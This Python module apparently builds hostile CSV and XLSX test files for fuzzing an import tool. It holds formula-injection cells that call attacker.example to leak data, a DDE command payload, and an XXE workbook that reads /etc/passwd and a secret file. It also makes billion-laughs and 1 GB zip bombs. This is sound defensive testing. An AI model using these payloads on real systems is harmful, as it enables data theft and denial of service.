"""Tables for the fuzz campaign (tests/fuzzcases.py): the batch's and the register import's
CSV and XLSX, valid rows from the samples and hostile ones.

CSV in several encodings and delimiters, with formula cells, NUL bytes, huge fields and
lines; XLSX made by openpyxl, and hand-made hostile workbooks: a cell at XFD1048576, a
sheet that unpacks to 1 GB, broken XML, a DTD with external entities, a chart sheet first,
no sheets. Costly files are made when a case runs (callables), never when it is drawn; the
1 GB bomb is packed once and kept in a cache folder of the temporary directory.
"""

from __future__ import annotations

import csv
import functools
import io
import os
import random
import re
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import yaml

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = sorted((ROOT / "samples").glob("*.yaml"))
#: Where a case finds the file it must never show (laid out by fuzzcases.run_case): two
#: folders above the case's own folder, so «../../secret.txt» reaches it.
SECRET_NAME = "secret.txt"
SECRET_REL = "../../" + SECRET_NAME
#: Replaced by the secret file's absolute path in a case's files and command lines.
SECRET = "@@SECRET@@"

#: Cell text a spreadsheet would run as a formula (OWASP «CSV injection»).
FORMULA_TEXT = [
    "=1+1", '=HYPERLINK("http://attacker.example/?leak="&A1,"click")', "+1+1", "-1+2",
    "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "=", "+", "-", "@", "-x",
    "=IMPORTXML(CONCAT(\"http://a.example/?\",A1),\"//a\")", "+7 (3852) 35-40-00",
    "@clause", "\t", "\r", "=\x00x", "-@x",
]
CONTROL_TEXT = [
    "a\x00b", "\x1b[2J\x1b[31mred", "\x07bell", "a\rb", "a\r\nb", "\x85next", "\u2028sep",
    "\u202eevil", "\x7fdel", "\x0b\x0c", "\x1b]0;pwned\x07", "a\nerror: forged line",
    "\x9b31m", "\ue000pua",
]


def hostile_cell(rng: random.Random) -> str:
    roll = rng.random()
    if roll < 0.45:
        return rng.choice(FORMULA_TEXT)
    if roll < 0.8:
        return rng.choice(CONTROL_TEXT)
    return rng.choice(FORMULA_TEXT) + rng.choice(CONTROL_TEXT)


# --- rows from the samples -----------------------------------------------------------------

@functools.cache
def _sample_rows() -> tuple[tuple[tuple[str, Any], ...], ...]:
    """Each sample as a table row (a sample with sections a table has not, without them)."""
    from xbdocs.batch.items import row_of

    rows = []
    for path in SAMPLES:
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        data.pop("custom_areas", None)
        data.pop("forms", None)
        data["areas"] = [a for a in data.get("areas", []) if isinstance(a, str)] or ["economy"]
        rows.append(tuple(row_of(data).items()))
    return tuple(rows)


def sample_row(rng: random.Random) -> dict[str, Any]:
    return dict(rng.choice(_sample_rows()))


def table(rows: list[dict[str, Any]], names: list[str] | None = None) -> list[list[Any]]:
    """A header and the rows under it (the union of their columns), with a name column."""
    header: list[str] = []
    for row in rows:
        header += [column for column in row if column not in header]
    lines: list[list[Any]] = [(["name"] if names else []) + header]
    for index, row in enumerate(rows):
        lines.append(([names[index]] if names else []) + [row.get(c) for c in header])
    return lines


def hostile_rows(rng: random.Random, count: int) -> tuple[list[dict[str, Any]], list[str]]:
    """Sample rows with some cells hostile, and their names (some hostile too)."""
    rows, names = [], []
    for index in range(count):
        row = sample_row(rng)
        # Half the rows build (so that what is written is judged), half carry hostile cells.
        for _ in range(rng.choice([0, 0, 0, 1, 1, 2, 3])):
            row[rng.choice(list(row))] = hostile_cell(rng)
        if rng.random() < 0.3:  # text fields a table takes as they are: notes, numbers
            row[rng.choice(TEXT_COLUMNS)] = rng.choice(FORMULA_TEXT[:5])
        rows.append(row)
        names.append(f"item-{index}" if rng.random() < 0.8 else rng.choice([
            hostile_cell(rng), "../escape", "/abs", ".", "con", "a" * 300, "имя", "CON.txt"]))
    return rows, names


#: Columns whose text is kept as given: where formula text reaches the documents and tables.
TEXT_COLUMNS = ["filing.notice.number", "filing.approval_request.number",
                "filing.approval.number", "filing.executor.name", "filing.executor.phone",
                "filing.purpose", "filing.financing"]


def csv_bytes(lines: list[list[Any]], delimiter: str = ";", encoding: str = "utf-8",
              newline: str = "\r\n") -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=newline)
    for line in lines:
        writer.writerow(["" if cell is None else cell for cell in line])
    return buffer.getvalue().encode(encoding, errors="replace")


ENCODINGS = ["utf-8"] * 4 + ["utf-8-sig"] * 4 + ["cp1251", "utf-16", "utf-16-le", "latin-1"]
DELIMITERS = [";", ",", "\t"]


def random_csv(rng: random.Random, lines: list[list[Any]]) -> bytes:
    return csv_bytes(lines, rng.choice(DELIMITERS), rng.choice(ENCODINGS),
                     rng.choice(["\r\n", "\n", "\r"]))


def xlsx_bytes(lines: list[list[Any]], edit: Callable[[Any], None] | None = None) -> bytes:
    """A workbook openpyxl makes: the lines on its first sheet (text starting with «=» is
    stored as a formula, as openpyxl does), then ``edit`` on the workbook."""
    from openpyxl import Workbook
    from openpyxl.utils.exceptions import IllegalCharacterError

    book = Workbook()
    sheet = book.active
    for r, line in enumerate(lines, start=1):
        for c, value in enumerate(line, start=1):
            try:
                sheet.cell(row=r, column=c, value=value)
            except (IllegalCharacterError, ValueError):
                sheet.cell(row=r, column=c, value=re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "?",
                                                         str(value)))
    if edit:
        edit(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _zip(parts: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
SHEET_OPEN = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
              '<sheetData>')
SHEET_CLOSE = "</sheetData></worksheet>"


def _cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def _sample_lines(rng: random.Random | None = None) -> list[list[Any]]:
    row = dict(_sample_rows()[0]) if rng is None else sample_row(rng)
    return table([row], ["item-1"])


def _with_sheet(sheet_xml: str | bytes, lines: list[list[Any]] | None = None) -> bytes:
    parts: dict[str, bytes | str] = dict(_parts(xlsx_bytes(lines or _sample_lines())))
    parts[SHEET] = sheet_xml
    return _zip(parts)


# --- hostile workbooks -------------------------------------------------------------------------

def xlsx_far_cell() -> bytes:
    """A real row, and one cell at XFD1048576 (the sheet's last): 16,384 × 1,048,576."""
    return xlsx_bytes(_sample_lines(), lambda book: book.active.cell(
        row=1048576, column=16384, value="x"))


def xlsx_lying_dimension() -> bytes:
    """Two real rows, and a <dimension> that says the sheet runs to XFD1048576."""
    parts = _parts(xlsx_bytes(_sample_lines()))
    sheet = parts[SHEET].decode()
    sheet = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', sheet)
    parts[SHEET] = sheet.encode()
    return _zip(dict(parts))


BOMB_BYTES = 1_000_000_000
_BOMB_VERSION = "1"


def cache_folder() -> Path:
    folder = Path(tempfile.gettempdir()) / f"xbdocs-fuzz-cache-{os.getuid()}"
    folder.mkdir(mode=0o700, exist_ok=True)
    return folder


def cached(name: str, make: Callable[[], bytes]) -> bytes:
    """``make()``, kept in the cache folder so that it is made once for many processes."""
    path = cache_folder() / name
    try:
        return path.read_bytes()
    except OSError:
        pass
    data = make()
    temporary = path.with_name(f"{name}.{os.getpid()}.part")
    temporary.write_bytes(data)
    os.replace(temporary, path)
    return data


def _make_xlsx_bomb() -> bytes:
    """A workbook whose sheet unpacks to 1 GB of rows (≈ 3 MB packed)."""
    parts = _parts(xlsx_bytes(_sample_lines()))
    buffer = io.BytesIO()
    head = SHEET_OPEN.encode() + b'<row r="1">' + _cell("A1", "name").encode() + b"</row>"
    chunk = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 20000
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in parts.items():
            if name != SHEET:
                archive.writestr(name, data)
        with archive.open(SHEET, "w", force_zip64=True) as stream:
            stream.write(head)
            written = len(head)
            while written < BOMB_BYTES:
                stream.write(chunk)
                written += len(chunk)
            stream.write(SHEET_CLOSE.encode())
    return buffer.getvalue()


def xlsx_bomb() -> bytes:
    return cached(f"xlsx-bomb-{_BOMB_VERSION}.xlsx", _make_xlsx_bomb)


def xlsx_broken_xml() -> bytes:
    data = xlsx_bytes(_sample_lines())
    sheet = _parts(data)[SHEET]
    return _with_sheet(sheet[: len(sheet) // 2])


def xlsx_external_entity() -> bytes:
    """A DTD whose external entities name /etc/passwd and the secret file, used in the
    header's cells (where an unknown column's name is shown)."""
    doctype = ('<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY e SYSTEM '
               '"file:///etc/passwd"><!ENTITY s SYSTEM "' + SECRET_REL + '">]>')
    return _with_sheet(doctype + SHEET_OPEN + '<row r="1">' + _cell("A1", "&e;")
                       + _cell("B1", "&s;") + "</row>" + SHEET_CLOSE)


def xlsx_entity_bomb() -> bytes:
    """Billion laughs in the sheet's DTD."""
    entities = '<!ENTITY a0 "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    return _with_sheet('<?xml version="1.0"?><!DOCTYPE worksheet [' + entities + "]>"
                       + SHEET_OPEN + '<row r="1">' + _cell("A1", "&a9;") + "</row>"
                       + SHEET_CLOSE)


def _chart_first(book: Any, keep_sheet: bool = True) -> None:
    from openpyxl.chart import BarChart, Reference

    sheet = book.active
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=1, min_row=1, max_row=2))
    charts = book.create_chartsheet("chart", 0)
    charts.add_chart(chart)
    if not keep_sheet:
        sheet.sheet_state = "hidden"


def xlsx_chart_first() -> bytes:
    return xlsx_bytes(_sample_lines(), _chart_first)


def xlsx_chart_only() -> bytes:
    """A chart sheet and no worksheet a row can be read from."""
    data = xlsx_bytes(_sample_lines(), _chart_first)
    parts = _parts(data)
    workbook = parts["xl/workbook.xml"].decode()
    workbook = re.sub(r'<sheet [^>]*name="Sheet"[^>]*/>', "", workbook)
    parts["xl/workbook.xml"] = workbook.encode()
    return _zip(dict(parts))


def xlsx_no_sheets() -> bytes:
    parts = _parts(xlsx_bytes(_sample_lines()))
    workbook = parts["xl/workbook.xml"].decode()
    parts["xl/workbook.xml"] = re.sub(r"<sheets>.*</sheets>", "<sheets/>", workbook).encode()
    parts.pop(SHEET)
    return _zip(dict(parts))


def xlsx_cached_formula() -> bytes:
    """Formula cells whose cached values are formula text: what data_only reads."""
    lines = _sample_lines()
    header = "".join(_cell(f"{chr(65 + i)}1", str(name)) for i, name in enumerate(lines[0][:20]))
    cells = []
    for i, value in enumerate(lines[1][:20]):
        text = '=HYPERLINK("http://attacker.example","x")' if i in (0, 3) else value
        text = (str(text) if text is not None else "").replace("&", "&amp;").replace(
            "<", "&lt;").replace('"', "&quot;")
        cells.append(f'<c r="{chr(65 + i)}2" t="str"><f>1+1</f><v>{text}</v></c>')
    return _with_sheet(SHEET_OPEN + f'<row r="1">{header}</row><row r="2">{"".join(cells)}'
                       "</row>" + SHEET_CLOSE)


def xlsx_huge_string() -> bytes:
    return _with_sheet(SHEET_OPEN + '<row r="1">' + _cell("A1", "name") + "</row>"
                       + '<row r="2">' + _cell("A2", "x" * 20_000_000) + "</row>"
                       + SHEET_CLOSE)


def xlsx_shared_strings_bad() -> bytes:
    """A cell naming the shared string number 10**12 of a table that has none."""
    return _with_sheet(SHEET_OPEN + '<row r="1"><c r="A1" t="s"><v>1000000000000</v></c>'
                       "</row>" + SHEET_CLOSE)


def xlsx_bad_refs() -> bytes:
    """Cell references a sheet cannot have: past XFD, row 0, negative, letters only."""
    return _with_sheet(SHEET_OPEN + '<row r="1">' + _cell("A1", "name")
                       + _cell("XFE1", "x") + "</row>" + '<row r="0">' + _cell("A0", "y")
                       + "</row>" + '<row r="-5">' + _cell("ZZZZZ99999999999", "z")
                       + "</row>" + SHEET_CLOSE)


HOSTILE_XLSX: dict[str, Callable[[], bytes]] = {
    "far-cell": xlsx_far_cell,
    "lying-dimension": xlsx_lying_dimension,
    "zip-bomb": xlsx_bomb,
    "broken-xml": xlsx_broken_xml,
    "external-entity": xlsx_external_entity,
    "entity-bomb": xlsx_entity_bomb,
    "chart-first": xlsx_chart_first,
    "chart-only": xlsx_chart_only,
    "no-sheets": xlsx_no_sheets,
    "cached-formula": xlsx_cached_formula,
    "huge-string": xlsx_huge_string,
    "shared-strings-bad": xlsx_shared_strings_bad,
    "bad-refs": xlsx_bad_refs,
    "not-a-zip": lambda: b"name;track\nx;regional\n",
    "empty": lambda: b"",
    "truncated": lambda: xlsx_bytes(_sample_lines())[:700],
}


# --- hostile CSV --------------------------------------------------------------------------------

def _header() -> list[str]:
    return list(_sample_lines()[0])


def csv_million_columns_row() -> bytes:
    lines = _sample_lines()
    return (csv_bytes(lines[:1]) + ";".join(["x"] * 1_000_000).encode() + b"\r\n"
            + csv_bytes(lines[1:]))


def csv_million_columns_header() -> bytes:
    lines = _sample_lines()
    return (";" * 1_000_000).encode() + csv_bytes(lines)


def csv_invalid_rows(count: int = 100_000) -> bytes:
    """``count`` rows, each an agreement that does not validate (a term of «пять» years)."""
    lines = [["name", "track", "term.years"]]
    lines += [[f"r{i}", "regional", "пять"] for i in range(count)]
    return csv_bytes(lines)


def csv_huge_field() -> bytes:
    """A 45 MB cell (the table's limit is 50 MB)."""
    lines = _sample_lines()
    lines[1][1] = "@@HUGE@@"
    return csv_bytes(lines).replace(b"@@HUGE@@", b"x" * 45_000_000)


HOSTILE_CSV: dict[str, Callable[[], bytes]] = {
    "million-columns-row": csv_million_columns_row,
    "million-columns-header": csv_million_columns_header,
    "100k-invalid-rows": csv_invalid_rows,
    "too-many-rows": lambda: csv_invalid_rows(100_001),
    "huge-field": csv_huge_field,
    "long-field": lambda: csv_bytes([_header(), ["item-1", *(["y" * 120_000] * 3)]]),
    "nul-bytes": lambda: csv_bytes(_sample_lines()).replace(b";", b"\x00;", 3)
    .replace(b"regional", b"regi\x00onal"),
    "nul-header": lambda: b"na\x00me;track\x00\r\nx;regional\r\n",
    "formula-cells": lambda: csv_bytes(table(
        [{c: f + str(v) for (c, v), f in zip(_sample_rows()[0], FORMULA_TEXT * 9,
                                             strict=False)}], ["=HYPERLINK(\"x\")"])),
    "formula-names": lambda: csv_bytes(table([dict(_sample_rows()[0])] * 6,
                                             ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])),
    "unterminated-quote": lambda: csv_bytes(_sample_lines()) + b'"x;' + b"y" * 10_000,
    "only-header": lambda: csv_bytes(_sample_lines()[:1]),
    "empty": lambda: b"",
    "bom-only": lambda: b"\xef\xbb\xbf",
    "blank-lines": lambda: b"\r\n" * 10_000,
    "cp1251": lambda: csv_bytes(_sample_lines(), encoding="cp1251"),
    "utf-16": lambda: csv_bytes(_sample_lines(), encoding="utf-16"),
    "utf-16-tab": lambda: csv_bytes(_sample_lines(), "\t", "utf-16"),
    "utf-8-bom-comma": lambda: csv_bytes(_sample_lines(), ",", "utf-8-sig"),
    "tab": lambda: csv_bytes(_sample_lines(), "\t"),
    "lone-cr": lambda: csv_bytes(_sample_lines(), newline="\r"),
    "mixed-delimiters": lambda: b"name;track,term.years\tcopies\r\nx;regional,5\t2\r\n",
    "duplicate-names": lambda: csv_bytes(table([dict(_sample_rows()[0])] * 2, ["a", "a"])),
    "duplicate-column": lambda: b"name;track;track\r\nx;regional;municipal\r\n",
    "unknown-column": lambda: ("name;" + "п" * 5000 + "\r\nx;y\r\n").encode(),
    "surrogates": lambda: "name;track\r\nx;\udcff\r\n".encode("utf-8", "surrogatepass"),
    "binary": lambda: bytes(range(256)) * 40,
}
